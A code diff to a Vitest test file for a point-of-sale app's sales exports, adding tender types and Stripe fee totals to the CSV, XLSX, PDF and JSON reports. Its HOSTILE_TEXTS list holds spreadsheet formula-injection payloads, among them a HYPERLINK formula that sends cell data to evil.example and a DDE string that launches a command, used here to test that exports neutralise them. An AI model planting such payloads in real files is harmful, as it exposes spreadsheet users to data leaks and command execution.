@@ -6,6 +6,7 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openLedger } from '../../../electron/core/ledger/open-ledger';
 import type { DailyReport, ExportJob } from '../../../shared/manager-types';
+import { TENDERS, type Tender } from '../../../shared/tender';
 import type { PosEvent } from '../../../shared/pos-contract';
 import { call, signedInContext } from '../../support/core-harness';
 import { callPos, startTestTill, TEST_API_TOKEN, type TestTill } from '../http/http-test-till';
@@ -16,6 +17,7 @@ const start = Date.parse('2026-03-08T00:00:00+07:00');
 const ROWS = 6_000;
 /** A day whose few sales carry text a spreadsheet would run as a formula. */
 const HOSTILE_DAY = '2026-03-09';
+const TENDER_OF = (i: number): Tender => (i % 7 === 3 ? 'cash' : i % 11 === 5 ? 'promptpay_manual' : 'promptpay');
 const HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab first', '\rCR first', 'Plain tea'];
 let till: TestTill;
 let sales: SeedSale[];
@@ -32,6 +34,9 @@ beforeAll(async () => {
     cashier: 'น้อย',
     description: i % 2 ? 'ข้าวผัดกุ้ง' : 'Iced tea, large',
     orderRef: `T-${i}`,
+    // Every tender; Stripe's fee on the PromptPay ones, except a few it has not reported.
+    tender: i % 10 === 9 ? 'promptpay' : TENDER_OF(i),
+    stripeFee: i % 10 !== 9 && TENDER_OF(i) === 'promptpay' && i % 13 !== 0 ? Math.round((1_000 + (i % 500) * 7) * 0.0165) : null,
   }));
   const db = openLedger(path.join(till.dataDir, 'ledger.sqlite3'));
   seedSales(db, sales);
@@ -55,6 +60,7 @@ afterAll(async () => {
 
 const paid = () => sales.filter((s) => s.status === 'succeeded');
 const bahtTotal = () => paid().reduce((sum, s) => sum + s.amount, 0);
+const paidBy = (tender: Tender) => paid().filter((s) => (s.tender ?? 'promptpay') === tender);
 
 async function exportOnDesktop(format: 'csv' | 'xlsx' | 'pdf', day = DAY, rows = ROWS): Promise<{ job: ExportJob; progress: ExportJob[] }> {
   const progress: ExportJob[] = [];
@@ -89,12 +95,16 @@ describe('exports', () => {
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
     expect(lines).toHaveLength(ROWS + 1);
-    expect(lines[0]).toBe('Created (local),Sale id,Status,Amount (THB),Refunded (THB),Net (THB),Description,Order reference,Cashier,Till,Source,PaymentIntent id,Paid at (local),Flagged,Mode,Stripe account');
-    expect(lines[1]).toBe(`2026-03-08 00:00:00,${sales[0].id},succeeded,10.00,5.00,5.00,"Iced tea, large",T-0,น้อย,till-1,till,pi_${sales[0].id.slice(5)},2026-03-08 00:00:30,,demo,`);
+    expect(lines[0]).toBe('Created (local),Sale id,Status,Tender,Amount (THB),Refunded (THB),Net (THB),Description,Order reference,Cashier,Till,Source,PaymentIntent id,Paid at (local),Flagged,Mode,Stripe account');
+    expect(lines[1]).toBe(`2026-03-08 00:00:00,${sales[0].id},succeeded,promptpay,10.00,5.00,5.00,"Iced tea, large",T-0,น้อย,till-1,till,pi_${sales[0].id.slice(5)},2026-03-08 00:00:30,,demo,`);
     expect(lines[2]).toContain(',ข้าวผัดกุ้ง,');
+    // A cash sale: no PaymentIntent.
+    expect(lines[4]).toBe(`${lines[4].slice(0, 19)},${sales[3].id},succeeded,cash,10.21,0.00,10.21,ข้าวผัดกุ้ง,T-3,น้อย,till-1,till,,${lines[4].split(',')[13]},,demo,`);
     expect(lines.at(-1)).toMatch(/^2026-03-08 23:59:59,/);
-    const paidTotal = lines.slice(1).filter((line) => line.split(',')[2] === 'succeeded').reduce((sum, line) => sum + Math.round(Number(line.split(',')[3]) * 100), 0);
-    expect(paidTotal).toBe(bahtTotal());
+    const paidRows = lines.slice(1).map((line) => line.split(',')).filter((cells) => cells[2] === 'succeeded');
+    const total = (rows: string[][]) => rows.reduce((sum, cells) => sum + Math.round(Number(cells[4]) * 100), 0);
+    expect(total(paidRows)).toBe(bahtTotal());
+    for (const tender of TENDERS) expect(total(paidRows.filter((cells) => cells[3] === tender)), tender).toBe(paidBy(tender).reduce((sum, s) => sum + s.amount, 0));
   });
 
   it('writes an XLSX that exceljs reads back with a per-day summary and every sale', async () => {
@@ -102,14 +112,27 @@ describe('exports', () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.readFile(job.filePath!);
     const summary = workbook.getWorksheet('Summary')!;
-    expect(summary.getRow(2).values).toEqual([undefined, DAY, paid().length, bahtTotal() / 100, 1, 5, (bahtTotal() - 500) / 100, ROWS - paid().length]);
+    expect((summary.getRow(2).values as unknown[]).slice(0, 8)).toEqual([undefined, DAY, paid().length, bahtTotal() / 100, 1, 5, (bahtTotal() - 500) / 100, ROWS - paid().length]);
+    // By tender (the refund was on a PromptPay sale), refunds, Stripe's fees and payout.
+    const byHeader = (name: string) => summary.getRow(2).getCell((summary.getRow(1).values as string[]).indexOf(name)).value;
+    const baht = (rows: { amount: number }[]) => Math.round(rows.reduce((sum, s) => sum + s.amount, 0)) / 100;
+    expect(byHeader('PromptPay (Stripe) · พร้อมเพย์ (ผ่าน Stripe): net (THB)')).toBe(baht(paidBy('promptpay')) - 5);
+    expect(byHeader('Cash · เงินสด: paid (THB)')).toBe(baht(paidBy('cash')));
+    expect(byHeader('PromptPay by hand, unverified · พร้อมเพย์ยืนยันเอง ยังไม่ได้ตรวจสอบ: net (THB)')).toBe(baht(paidBy('promptpay_manual')));
+    const fees = paidBy('promptpay').reduce((sum, s) => sum + (s.stripeFee ?? 0), 0);
+    expect(byHeader('Stripe fees · ค่าธรรมเนียม Stripe (THB)')).toBe(fees / 100);
+    expect(byHeader('Stripe net payout · ยอดสุทธิที่ Stripe โอนให้ร้าน (THB)')).toBeCloseTo((paidBy('promptpay').reduce((sum, s) => sum + s.amount, 0) - 500 - fees) / 100, 2);
+    expect(byHeader('Refunds paid out · คืนเงินแล้ว (THB)')).toBe(5);
     const sheet = workbook.getWorksheet('Sales')!;
     expect(sheet.rowCount).toBe(ROWS + 1);
-    expect(sheet.getRow(3).getCell(7).value).toBe('ข้าวผัดกุ้ง');
-    expect(sheet.getRow(2).getCell(4).value).toBe(10);
+    expect(sheet.getRow(3).getCell(8).value).toBe('ข้าวผัดกุ้ง');
+    expect(sheet.getRow(2).getCell(5).value).toBe(10);
+    expect(sheet.getRow(2).getCell(4).value).toBe('PromptPay (Stripe) · พร้อมเพย์ (ผ่าน Stripe)');
+    expect(sheet.getRow(7).getCell(4).value).toBe('PromptPay by hand, unverified · พร้อมเพย์ยืนยันเอง ยังไม่ได้ตรวจสอบ');
   });
 
-  it('writes a PDF whose text holds the totals, Thai descriptions and the Stripe ids', async () => {
+  // A hundred pages of 6,000 rows: seconds on a busy machine.
+  it('writes a PDF whose text holds the totals, Thai descriptions and the Stripe ids', { timeout: 90_000 }, async () => {
     const { job } = await exportOnDesktop('pdf');
     const pdfjs = await import('pdfjs-dist/legacy/build/pdf.mjs');
     const document = await pdfjs.getDocument({ data: new Uint8Array(fs.readFileSync(job.filePath!)), useSystemFonts: false }).promise;
@@ -120,6 +143,14 @@ describe('exports', () => {
     expect(first).toContain(sales[0].id);
     expect(first).toContain(`pi_${sales[0].id.slice(5)}`);
     expect(first).toContain('ข้าวผัดกุ้ง');
+    // Totals by tender, Stripe's fees and payout; hand-confirmed PromptPay says it is unverified.
+    expect(first).toContain('By tender');
+    expect(first).toContain('PromptPay by hand, unverified');
+    expect(first).toContain((paidBy('cash').reduce((sum, s) => sum + s.amount, 0) / 100).toFixed(2));
+    expect(first).toContain('Stripe fees');
+    expect(first).toContain('Stripe net payout');
+    const second = (await (await document.getPage(2)).getTextContent()).items.map((item) => ('str' in item ? item.str : '')).join(' ');
+    expect(second).toContain('By hand, unverified');
     expect(document.numPages).toBeGreaterThan(100);
   });
 
@@ -155,7 +186,7 @@ describe('exports', () => {
     await workbook.xlsx.readFile(job.filePath!);
     const sheet = workbook.getWorksheet('Sales')!;
     HOSTILE_TEXTS.forEach((text, i) => {
-      for (const column of [7, 8, 9]) {
+      for (const column of [8, 9, 10]) {
         const cell = sheet.getRow(i + 2).getCell(column);
         expect(cell.type).toBe(ExcelJS.ValueType.String);
         expect(cell.formula).toBeUndefined();
@@ -210,11 +241,32 @@ describe('GET /reports/daily', () => {
     expect(report.payments).toHaveLength(paid().length);
   });
 
+  it('gives the JSON report its totals by tender and Stripe’s fees, in satang, and each payment’s tender', async () => {
+    const report = (await (await get(`date=${DAY}&format=json`)).json()) as DailyReport;
+    const sum = (rows: { amount: number }[]) => rows.reduce((total, s) => total + s.amount, 0);
+    expect(report.tenders).toEqual({
+      promptpay: { count: paidBy('promptpay').length, gross: sum(paidBy('promptpay')), refunded: 500, net: sum(paidBy('promptpay')) - 500 },
+      cash: { count: paidBy('cash').length, gross: sum(paidBy('cash')), refunded: 0, net: sum(paidBy('cash')) },
+      promptpay_manual: { count: paidBy('promptpay_manual').length, gross: sum(paidBy('promptpay_manual')), refunded: 0, net: sum(paidBy('promptpay_manual')) },
+    });
+    const fees = paidBy('promptpay').reduce((total, s) => total + (s.stripeFee ?? 0), 0);
+    expect(report).toMatchObject({
+      stripeFees: fees,
+      stripeFeesUnknown: paidBy('promptpay').filter((s) => s.stripeFee === null).length,
+      stripeNetPayout: sum(paidBy('promptpay')) - 500 - fees,
+      refundsPaidOut: { count: 1, amount: 500 },
+      refundsWaiting: { count: 0, amount: 0 },
+      dayStartHour: 0,
+    });
+    expect(report.stripeFeesUnknown).toBeGreaterThan(0);
+    expect(report.payments.map((p) => p.tender)).toEqual(paid().map((s) => s.tender ?? 'promptpay'));
+  });
+
   it.each([
     ['csv', 'text/csv; charset=utf-8', [0xef, 0xbb, 0xbf]],
     ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', [0x50, 0x4b, 0x03]],
     ['pdf', 'application/pdf', [0x25, 0x50, 0x44]],
-  ] as const)('streams the %s file with its content type and file name', async (format, type, magic) => {
+  ] as const)('streams the %s file with its content type and file name', { timeout: 90_000 }, async (format, type, magic) => {
     const response = await get(`date=${DAY}&format=${format}`);
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe(type);
